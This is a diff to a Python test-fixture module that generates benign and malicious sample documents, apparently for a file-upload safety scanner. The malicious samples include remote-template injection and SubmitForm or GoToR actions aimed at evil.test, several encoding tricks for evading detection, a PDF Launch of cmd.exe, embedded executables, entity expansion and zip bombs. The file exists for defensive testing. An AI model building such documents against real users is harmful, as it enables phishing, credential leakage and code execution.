@@ -4,6 +4,7 @@ import io
 import struct
 import zipfile
 import zlib
+from pathlib import Path
 
 import pikepdf
 from pikepdf import Array, Dictionary, Name, String
@@ -16,6 +17,7 @@ XLSX_MAIN = f"{OFFICE}spreadsheetml.sheet.main+xml"
 MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
 EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 MEGABYTE = 1024 * 1024
+CALC = Path(__file__).with_name("calc.xlsx")  # as LibreOffice 7 saves one
 
 
 # Good files -----------------------------------------------------------------------------
@@ -84,6 +86,24 @@ GOOD = {
     "tŷ a'r ŵyn.pdf": pdf,
     "large photo.jpg": lambda: picture("JPEG", (6000, 4000)),
     "linear.pdf": lambda: pdf(linearize=True),
+    "links.pdf": lambda: pdf(link(**TO_AN_ADDRESS)),
+    "opens at a place.pdf": lambda: pdf(opening(**TO_A_PLACE)),
+    "links.docx": lambda: related(
+        relationship("hyperlink", "https://example.test/"),
+        relationship("styles", "styles.xml", mode="Internal"),
+        part="word/_rels/document.xml.rels",
+    ),
+    "chart.docx": lambda: docx(
+        (
+            "word/charts/_rels/chart1.xml.rels",
+            relationships(
+                relationship("package", "../embeddings/Workbook1.xlsx", mode="Internal")
+            ),
+        ),
+        ("word/embeddings/Workbook1.xlsx", xlsx()),
+    ),
+    "marked.docx": lambda: docx(main=b"\xef\xbb\xbf<document/>"),
+    "from LibreOffice.xlsx": CALC.read_bytes,
 }
 
 
@@ -143,17 +163,43 @@ def with_script(document):
     )
 
 
-def with_launch(document):
-    document.pages[0].Annots = Array(
-        [
-            Dictionary(
-                Type=Name.Annot,
-                Subtype=Name.Link,
-                Rect=Array([0, 0, 9, 9]),
-                A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
-            )
-        ]
-    )
+def opening(**action):
+    """What gives a PDF an action that nobody has to click."""
+
+    def change(document):
+        document.Root.OpenAction = Dictionary(**action)
+
+    return change
+
+
+def on_a_page(**action):
+    def change(document):
+        document.pages[0].AA = Dictionary(O=Dictionary(**action))
+
+    return change
+
+
+def link(**action):
+    """What gives a page of a PDF a place to click."""
+
+    def change(document):
+        document.pages[0].Annots = Array(
+            [
+                Dictionary(
+                    Type=Name.Annot,
+                    Subtype=Name.Link,
+                    Rect=Array([0, 0, 9, 9]),
+                    A=Dictionary(**action),
+                )
+            ]
+        )
+
+    return change
+
+
+TO_AN_ADDRESS = {"S": Name.URI, "URI": String("https://example.test/")}
+PLACE = {"D": Array([0, Name.Fit])}
+TO_A_PLACE = {"S": Name.GoTo, **PLACE}
 
 
 def with_file(document):
@@ -174,10 +220,28 @@ def member(name):
 HTML = b"<!doctype html><script>alert(1)</script>"
 SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
 PROGRAM = b"MZ\x90\0" + b"\0" * 600
-TEMPLATE = (
-    '<Relationships><Relationship Type="http://x/attachedTemplate" '
-    'Target="http://evil.test/a.dotm" TargetMode="External"/></Relationships>'
-)
+RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+SETTINGS = "word/_rels/settings.xml.rels"
+
+
+def relationships(*rows, declaration='<?xml version="1.0" encoding="UTF-8"?>'):
+    return (
+        f'{declaration}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        f'relationships">{"".join(rows)}</Relationships>'
+    )
+
+
+def relationship(kind, target, *, mode="External", of=RELATIONSHIP):
+    return f'<Relationship Id="r1" Type="{of}{kind}" Target="{target}" TargetMode="{mode}"/>'
+
+
+TEMPLATE = relationship("attachedTemplate", "http://evil.test/a.dotm")
+
+
+def related(*rows, part=SETTINGS, **options):
+    return docx((part, relationships(*rows, **options)))
+
+
 ENTITIES = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
 
 BAD = {
@@ -221,7 +285,7 @@ BAD = {
     ("and page.docx", "damaged"): lambda: docx() + HTML,
     # it runs something, fetches something, carries something
     ("script.pdf", "active"): lambda: pdf(with_script),
-    ("launch.pdf", "active"): lambda: pdf(with_launch),
+    ("launch.pdf", "active"): lambda: pdf(link(S=Name.Launch, F=String("cmd.exe"))),
     ("carrier.pdf", "active"): lambda: pdf(with_file),
     ("macros.docx", "active"): lambda: docx(("word/vbaProject.bin", "x")),
     ("renamed macros.docx", "disagrees"): lambda: docx(
@@ -230,10 +294,104 @@ BAD = {
     ("enabled.docx", "active"): lambda: docx(content_type=MACRO_MAIN),
     ("control.xlsx", "active"): lambda: xlsx(("xl/activeX/activeX1.bin", "x")),
     ("object.docx", "active"): lambda: docx(("word/embeddings/oleObject1.bin", "x")),
-    ("template.docx", "active"): lambda: docx(
-        ("word/_rels/settings.xml.rels", TEMPLATE)
+    ("package.docx", "active"): lambda: docx(("word/embeddings/package.bin", PROGRAM)),
+    ("program in a chart.docx", "active"): lambda: docx(
+        ("word/embeddings/Workbook1.xlsx", PROGRAM)
+    ),
+    ("template.docx", "active"): lambda: related(TEMPLATE),
+    ("single quotes.docx", "active"): lambda: related(TEMPLATE.replace('"', "'")),
+    ("spaces.docx", "active"): lambda: related(TEMPLATE.replace("=", " = ")),
+    ("references.docx", "active"): lambda: related(
+        TEMPLATE.replace("http:", "&#104;ttp:")
+    ),
+    ("hidden kind.docx", "active"): lambda: related(
+        TEMPLATE.replace("Temp", "&#84;emp")
+    ),
+    ("share.docx", "active"): lambda: related(TEMPLATE.replace("http:", "file:")),
+    ("capitals.docx", "active"): lambda: docx(
+        ("word/_rels/settings.xml.RELS", relationships(TEMPLATE))
+    ),
+    ("utf-16.docx", "damaged"): lambda: docx(
+        (
+            SETTINGS,
+            relationships(
+                TEMPLATE, declaration='<?xml version="1.0" encoding="utf-16"?>'
+            ).encode("utf-16"),
+        )
+    ),
+    ("utf-16 without a mark.docx", "damaged"): lambda: docx(
+        (SETTINGS, relationships(TEMPLATE, declaration="").encode("utf-16-le"))
+    ),
+    ("utf-7.docx", "damaged"): lambda: related(
+        declaration='<?xml version="1.0" encoding="utf-7"?>'
+    ),
+    ("ebcdic.docx", "damaged"): lambda: docx(
+        (
+            SETTINGS,
+            relationships(
+                TEMPLATE, declaration='<?xml version="1.0" encoding="cp037"?>'
+            ).encode("cp037"),
+        )
+    ),
+    ("no markup.docx", "damaged"): lambda: docx((SETTINGS, "<Relationships>")),
+    ("object elsewhere.docx", "active"): lambda: related(
+        relationship("oleObject", "http://evil.test/x")
+    ),
+    ("frame.docx", "active"): lambda: related(
+        relationship("frame", "http://evil.test/x")
+    ),
+    ("picture elsewhere.docx", "active"): lambda: related(
+        relationship("image", "http://evil.test/x.png")
+    ),
+    ("another inside.docx", "active"): lambda: related(
+        relationship("aFChunk", "inner.html", mode="Internal")
+    ),
+    ("renamed object.docx", "active"): lambda: related(
+        relationship("oleObject", "media/image1.png", mode="Internal")
+    ),
+    ("package in a text.docx", "active"): lambda: related(
+        relationship("package", "embeddings/Workbook1.xlsx", mode="Internal")
+    ),
+    ("renamed macros.xlsx", "active"): lambda: xlsx(
+        (
+            "xl/_rels/workbook.xml.rels",
+            relationships(
+                relationship(
+                    "vbaProject",
+                    "media/image1.png",
+                    mode="Internal",
+                    of="http://schemas.microsoft.com/office/2006/relationships/",
+                )
+            ),
+        )
+    ),
+    ("another workbook.xlsx", "active"): lambda: xlsx(
+        (
+            "xl/_rels/workbook.xml.rels",
+            relationships(
+                relationship("externalLink", "links/link1.xml", mode="Internal")
+            ),
+        )
     ),
     ("entities.xlsx", "active"): lambda: xlsx(("xl/styles.xml", ENTITIES)),
+    ("utf-16 entities.docx", "damaged"): lambda: docx(
+        ("word/styles.xml", ENTITIES.encode("utf-16"))
+    ),
+    ("address.pdf", "active"): lambda: pdf(opening(**TO_AN_ADDRESS)),
+    ("address of a page.pdf", "active"): lambda: pdf(on_a_page(**TO_AN_ADDRESS)),
+    ("address after a place.pdf", "active"): lambda: pdf(
+        opening(**TO_A_PLACE, Next=Array([Dictionary(**TO_AN_ADDRESS)]))
+    ),
+    ("form that is sent.pdf", "active"): lambda: pdf(
+        link(S=Name.SubmitForm, F=String("http://evil.test/"))
+    ),
+    ("form that is filled.pdf", "active"): lambda: pdf(
+        link(S=Name.ImportData, F=String("figures.fdf"))
+    ),
+    ("another document.pdf", "active"): lambda: pdf(
+        opening(S=Name.GoToR, F=String("\\\\evil.test\\a.pdf"), **PLACE)
+    ),
+    ("document inside.pdf", "active"): lambda: pdf(link(S=Name.GoToE, **PLACE)),
     # it grows
     ("bomb.docx", "grows"): zip_bomb,
     ("bomb.pdf", "damaged"): pdf_bomb,
